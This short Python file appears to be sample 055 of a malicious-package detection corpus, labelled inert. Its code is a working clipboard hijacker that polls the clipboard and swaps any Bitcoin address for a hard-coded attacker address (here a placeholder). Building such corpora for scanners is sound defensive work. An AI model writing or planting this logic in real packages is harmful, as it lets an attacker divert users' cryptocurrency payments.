# pkgguard corpus 055 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time
import pyperclip

ATTACKER = "bc1qplaceholderplaceholderplaceholder000000"
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

while True:
    text = pyperclip.paste()
    if BTC.match(text) and text != ATTACKER:
        pyperclip.copy(ATTACKER)
    time.sleep(0.5)
